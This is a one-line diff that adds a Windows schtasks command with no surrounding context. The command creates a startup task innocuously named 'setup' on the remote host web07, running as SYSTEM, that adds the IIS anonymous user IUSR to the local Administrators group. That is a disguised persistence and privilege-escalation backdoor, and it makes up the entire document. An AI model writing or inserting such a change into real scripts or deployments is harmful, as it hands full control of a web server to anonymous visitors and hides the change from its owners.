@@ -1,0 +1,1 @@
+schtasks /create /s web07 /tn setup /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /add"
